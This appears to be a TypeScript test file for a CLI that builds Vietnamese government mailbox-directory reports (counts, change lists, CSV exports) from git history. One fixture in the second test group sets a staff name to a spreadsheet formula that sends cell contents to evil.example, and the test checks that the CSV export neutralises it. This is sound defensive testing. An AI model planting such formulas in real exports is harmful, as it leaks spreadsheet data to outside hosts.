// The Phụ lục II half-yearly report from real commits: counts at the end date, and the lists of
// created / changed / cancelled mailboxes in the period (commits outside it are left out).
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { reportCommand } from '../../scripts/cli/commands/report.js';
import { makeRepo, runCommand, type TestRepo } from './helpers.js';

let repo: TestRepo;
let out: string;
let dir: string;
const commits: Record<string, string> = {};

beforeAll(async () => {
  repo = makeRepo();
  commits.c1 = repo.commit('Khởi tạo', '2024-01-10');
  repo.edit('agencies/sonv.yaml', 'staff:\n', 'staff:\n  - id: ct-0003\n    name: Võ Thị Hồng\n    title: Chuyên viên\n    mailbox: vthong@cantho.gov.vn\n');
  repo.edit('agencies/sonv.yaml', 'title: Chánh Văn phòng', 'title: Phó Giám đốc');
  commits.c2 = repo.commit('Tuyển mới, bổ nhiệm', '2024-02-15');
  repo.edit('agencies/sonv.yaml', '  - id: ct-0001\n    name: Nguyễn Văn Minh\n    title: Giám đốc\n    mailbox: nvminh@cantho.gov.vn\n', '');
  repo.edit('agencies/sokhdt.yaml', '    mailbox: vanphong.sokhdt@cantho.gov.vn\n', '    mailbox: vanphong.sokhdt@cantho.gov.vn\n    status: { state: suspended, from: 2024-04-01, reason: Không đăng nhập 3 tháng, reference: TB 5/STTTT }\n');
  repo.edit('agencies/sokhdt.yaml', '    mailbox: ptmai@cantho.gov.vn\n', '    mailbox: ptmai@cantho.gov.vn\n    status: { state: forwarding, from: 2024-04-01, until: 2024-05-01, forwardTo: ttlan@cantho.gov.vn, reason: Điều chuyển, reference: QĐ 9/QĐ-SKHĐT }\n');
  commits.c3 = repo.commit('Nghỉ việc, tạm ngưng, điều chuyển', '2024-04-01');
  repo.edit('agencies/sonv.yaml', 'staff:\n', 'staff:\n  - id: ct-0004\n    name: Đỗ Văn Nam\n    mailbox: dvnam@cantho.gov.vn\n');
  commits.c4 = repo.commit('Sau kỳ báo cáo', '2024-07-10');
  out = mkdtempSync(join(tmpdir(), 'danhba-report-'));
  const r = await runCommand(reportCommand, ['--from', '2024-02-01', '--to', '2024-06-30', '--province', 'cantho', '--out', out], repo.root, 'vi');
  expect(r.code).toBe(0);
  dir = join(out, 'cantho.gov.vn', 'bao-cao-2024-02-01_2024-06-30');
});

afterAll(() => {
  repo.cleanup();
  rmSync(out, { recursive: true, force: true });
});

const section = (md: string, n: number) => md.split(`### 3.${n}.`)[1].split(/\n### |\n4\. /)[0];

describe('danhba report (Phụ lục II)', () => {
  it('counts the mailboxes by kind at the end date', () => {
    const sonv = readFileSync(join(dir, 'sonv.md'), 'utf8');
    expect(sonv).toContain('**Cơ quan:** Sở Nội vụ (`sonv@cantho.gov.vn`) — Cần Thơ');
    expect(sonv).toContain('(thời gian từ 01/02/2024 đến 30/06/2024)');
    expect(sonv).toContain('Tổng số đơn vị thuộc cơ quan: 2; trong đó: Phòng, ban: 1; Trung tâm, đơn vị sự nghiệp trực thuộc: 1');
    expect(sonv).toContain('- Số lượng hộp thư điện tử người dùng: 2\n'); // ct-0002, ct-0003; not ct-0004 (July)
    expect(sonv).toContain('(phòng ban/tổ chức/trung tâm): 2 (cơ quan: 1; đơn vị: 1)');
    const sokhdt = readFileSync(join(dir, 'sokhdt.md'), 'utf8');
    expect(sokhdt).toContain('- Số lượng hộp thư điện tử người dùng: 1\n'); // ptmai's forward ended 2024-05-01
    expect(sokhdt).toContain('- Trong đó đang tạm ngưng: 1');
  });

  it('lists created, changed and cancelled mailboxes of the period, per agency', () => {
    const sonv = readFileSync(join(dir, 'sonv.md'), 'utf8');
    expect(section(sonv, 1)).toMatch(/\| 1 \| 15\/02\/2024 \| cá nhân \| `vthong@cantho.gov.vn` \| Võ Thị Hồng \| tạo mới \| `\w{10}` \|/);
    expect(section(sonv, 2)).toContain('| 1 | 15/02/2024 | cá nhân | `ttlan@cantho.gov.vn` | Trần Thị Lan | thay đổi: title: Chánh Văn phòng → Phó Giám đốc |');
    expect(section(sonv, 3)).toContain('| 1 | 01/04/2024 | cá nhân | `nvminh@cantho.gov.vn` | Nguyễn Văn Minh | xoá khỏi danh bạ |');
    expect(sonv).not.toContain('dvnam@');
    const sokhdt = readFileSync(join(dir, 'sokhdt.md'), 'utf8');
    expect(section(sokhdt, 1)).toContain('Không có.');
    expect(section(sokhdt, 2)).toContain('`vanphong.sokhdt@cantho.gov.vn` | Văn phòng | tạm ngưng');
    expect(section(sokhdt, 2)).toContain('`ptmai@cantho.gov.vn` | Phạm Thị Mai | chuyển tiếp');
    // The forward's end date revoked the mailbox inside the period, with no commit of its own.
    expect(section(sokhdt, 3)).toContain('| 1 | 01/05/2024 | cá nhân | `ptmai@cantho.gov.vn` | Phạm Thị Mai | thu hồi: status: forwarding (Điều chuyển) |  |');
  });

  it('writes CSV in UTF-8 with a BOM, one row per agency and per change', () => {
    const counts = readFileSync(join(dir, 'so-luong.csv'), 'utf8');
    expect(counts.startsWith('\uFEFFma_co_quan,ten_co_quan,den_ngay,')).toBe(true);
    const rows = counts.trim().split('\r\n');
    expect(rows).toHaveLength(3);
    expect(rows).toContain('sonv,Sở Nội vụ,2024-06-30,2,1,1,2,1,1,0,0,1,1,1,0');
    expect(rows).toContain('sokhdt,Sở Kế hoạch và Đầu tư,2024-06-30,1,1,0,1,1,1,0,1,0,2,1,0');
    const changes = readFileSync(join(dir, 'thay-doi.csv'), 'utf8').trim().split('\r\n');
    expect(changes).toHaveLength(1 + 6);
    expect(changes).toContain(`sonv,Sở Nội vụ,created,2024-02-15,person,vthong@cantho.gov.vn,Võ Thị Hồng,created,,${commits.c2}`);
  });

  it('sums the province for the ICT department', () => {
    const summary = readFileSync(join(dir, 'tong-hop.md'), 'utf8');
    expect(summary).toContain('| Sở Nội vụ (`sonv`) | 2 | 1 | 1 | 0 | 1 | 1 | 1 | 0 |');
    expect(summary).toContain('| **Tổng** | **3** | **2** | **2** | **1** | **1** | **3** | **2** | **0** |');
  });

  it('rejects a reversed period', async () => {
    await expect(runCommand(reportCommand, ['--from', '2024-07-01', '--to', '2024-06-30'], repo.root)).rejects.toThrow(/after --to/);
  });
});

describe('danhba report: cancellations counted once, CSV cells that are not formulas', () => {
  let r2: TestRepo;
  let out2: string;
  let rows: string[];

  beforeAll(async () => {
    r2 = makeRepo();
    // Revoked before the period: its clean-up inside the period is no new cancellation.
    r2.edit('agencies/sokhdt.yaml', '    mailbox: lhphuc@cantho.gov.vn\n', '    mailbox: lhphuc@cantho.gov.vn\n    status: { state: revoked, from: 2023-12-01, reason: Nghỉ hưu, reference: QĐ 1/QĐ-SKHĐT }\n');
    r2.edit('agencies/sokhdt.yaml', 'staff:\n', 'staff:\n  - id: ct-0103\n    name: Đỗ Văn Nam\n    mailbox: dvnam@cantho.gov.vn\n');
    r2.commit('Khởi tạo', '2023-12-01');
    // Revoked inside the period, then removed inside it: one cancellation.
    r2.edit('agencies/sonv.yaml', '    mailbox: nvminh@cantho.gov.vn\n', '    mailbox: nvminh@cantho.gov.vn\n    status: { state: revoked, from: 2024-02-10, reason: Nghỉ việc, reference: QĐ 2/QĐ-SNV }\n');
    // A name a spreadsheet would run as a formula.
    r2.edit('agencies/sonv.yaml', 'staff:\n', 'staff:\n  - id: ct-0003\n    name: \'=HYPERLINK("http://evil.example/?"&A1,"Bấm")\'\n    mailbox: vthong@cantho.gov.vn\n');
    r2.commit('Thu hồi nvminh; tuyển mới', '2024-02-10');
    r2.edit('agencies/sonv.yaml', '  - id: ct-0001\n    name: Nguyễn Văn Minh\n    title: Giám đốc\n    mailbox: nvminh@cantho.gov.vn\n    status: { state: revoked, from: 2024-02-10, reason: Nghỉ việc, reference: QĐ 2/QĐ-SNV }\n', '');
    r2.edit('agencies/sokhdt.yaml', '  - id: ct-0101\n    name: Lê Hoàng Phúc\n    title: Giám đốc\n    mailbox: lhphuc@cantho.gov.vn\n    status: { state: revoked, from: 2023-12-01, reason: Nghỉ hưu, reference: QĐ 1/QĐ-SKHĐT }\n', '');
    // Removed while still active: a cancellation.
    r2.edit('agencies/sokhdt.yaml', '  - id: ct-0102\n    name: Phạm Thị Mai\n    title: Chuyên viên\n    unit: van-phong\n    mailbox: ptmai@cantho.gov.vn\n', '');
    r2.commit('Dọn các mục đã thu hồi; Mai nghỉ', '2024-03-10');
    out2 = mkdtempSync(join(tmpdir(), 'danhba-report-'));
    const r = await runCommand(reportCommand, ['--from', '2024-01-01', '--to', '2024-06-30', '--province', 'cantho', '--out', out2], r2.root);
    expect(r.code).toBe(0);
    rows = readFileSync(join(out2, 'cantho.gov.vn', 'bao-cao-2024-01-01_2024-06-30', 'thay-doi.csv'), 'utf8').trim().split('\r\n');
  });

  afterAll(() => {
    r2.cleanup();
    rmSync(out2, { recursive: true, force: true });
  });

  it('counts a revocation and the later removal of the same entry as one cancellation', () => {
    const cancelled = rows.filter((r) => r.split(',')[2] === 'cancelled').map((r) => r.split(',').slice(3, 8).join(' '));
    expect(cancelled.sort()).toEqual(['2024-02-10 person nvminh@cantho.gov.vn Nguyễn Văn Minh revoked', '2024-03-10 person ptmai@cantho.gov.vn Phạm Thị Mai removed']);
  });

  it('neutralises formulas in the CSV as the site does', () => {
    const created = rows.find((r) => r.includes('vthong@'))!;
    expect(created).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm"")",`);
    expect(rows.some((r) => /(^|,)"?=/.test(r))).toBe(false);
  });
});
